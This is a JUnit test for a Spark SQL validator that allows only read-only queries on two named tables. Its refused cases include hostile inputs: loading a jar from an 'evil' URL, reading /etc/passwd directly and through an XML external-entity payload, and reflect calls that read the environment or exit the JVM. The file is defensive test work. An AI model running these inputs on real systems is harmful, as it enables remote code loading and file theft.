package io.rosterlake.sql;

import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Set;
import org.apache.spark.sql.AnalysisException;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a query of the lake may be. */
class ReadOnlyQueryTest {
  private static final Set<String> TABLES = Set.of("gold__Person", "gold__Enrollment");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "select 1",
        "select count(*), count(*) from gold__Person;",
        "from gold__Person select Id",
        "table gold__Person",
        "values (1, 'a'), (2, 'b')",
        "with p as (select * from gold__Person), q as (select * from p) select * from q join P",
        "select * from gold__Person where Id in (with p as (select 1 as i) select i from p)",
        "select * from gold__Person p where exists (select 1 from gold__Enrollment e where e.Id = p.Id)",
        "select Id, (select count(*) from gold__Enrollment) from gold__Person",
        "select * from gold__Person tablesample (10 rows) order by Id limit 3 offset 2",
        "select Id, row_number() over w from gold__Person window w as (order by Id)",
        "select a, count(*) from gold__Person group by rollup (a) having count(*) > 1",
        "select * from gold__Person lateral view explode(split(Name, ' ')) as part",
        "select * from gold__Person, lateral (select count(*) from gold__Enrollment)",
        "select * from range(3) union all select 4 intersect select 4 except select 5",
        "select * from gold__Person pivot (count(*) for a in (1, 2))",
        "select * from gold__Person unpivot (v for n in (a, b))",
        "select /*+ broadcast(p) */ * from gold__Person p"
      })
  void letsAQueryPass(String sql) {
    assertThatCode(() -> ReadOnlyQuery.require(sql, TABLES)).doesNotThrowAnyException();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "insert overwrite directory '/lake/gold/Person' using csv select 1",
        "insert into gold__Person select 1",
        "create table t as select * from gold__Person",
        "create view v as select 1",
        "create temporary function f as 'java.lang.Math'",
        "drop view gold__Person",
        "set spark.sql.ansi.enabled = false",
        "reset",
        "add jar 'http://somewhere/evil.jar'",
        "list jars",
        "show tables",
        "describe gold__Person",
        "explain select 1",
        "cache table gold__Person",
        "refresh table gold__Person",
        "use default",
        "truncate table gold__Person",
        "delete from gold__Person",
        "update gold__Person set Id = 1",
        "merge into gold__Person p using gold__Enrollment e on p.Id = e.Id when matched then delete",
        "select transform(Id) using 'cat' from gold__Person",
        "select * from parquet.`/etc/passwd`",
        "select * from csv.`/etc/passwd`",
        "select * from default.people",
        "select * from people",
        "select * from (with people as (select 1) select * from people) p, people",
        "select * from gold__Person version as of 1",
        "select * from identifier('gold__' || 'Person')",
        "select java_method('java.lang.System', 'getenv', 'HOME')",
        "select reflect('java.lang.System', 'exit', 1)",
        "select try_reflect('java.lang.System', 'getenv', 'HOME') from gold__Person",
        "select input_file_name() from gold__Person",
        "select * from gold__Person where Id in (select reflect('java.lang.System', 'getenv', 'HOME'))",
        "with x as (select reflect('a', 'b')) select * from x",
        "select * from gold__Person order by java_method('a', 'b')",
        "select sum(x) over (order by reflect('a', 'b')) from gold__Person",
        "select transform(array(1), x -> reflect('a', 'b'))",
        "select xpath_string('<!DOCTYPE a [<!ENTITY e SYSTEM \"file:/etc/passwd\">]><a>&e;</a>', 'a')",
        "select * from read_files('/etc/passwd')",
        "select current_user",
        "select main.default.mine(Id) from gold__Person",
        "begin select 1; end",
        "execute immediate 'select 1'",
        "select 1; select 2"
      })
  void refusesWhatIsMoreThanAQueryOfItsTables(String sql) {
    assertThatThrownBy(() -> ReadOnlyQuery.require(sql, TABLES))
        .isInstanceOfAny(QueryRefused.class, AnalysisException.class);
  }

  @ParameterizedTest
  @ValueSource(ints = {201, 5_000})
  void refusesAQueryThatIsNestedTooDeeply(int levels) {
    String sql = "select " + "(".repeat(levels) + "1" + ")".repeat(levels);

    assertThatThrownBy(() -> ReadOnlyQuery.require(sql, TABLES))
        .isInstanceOf(QueryRefused.class)
        .hasMessageContaining("nested too deeply");
  }
}
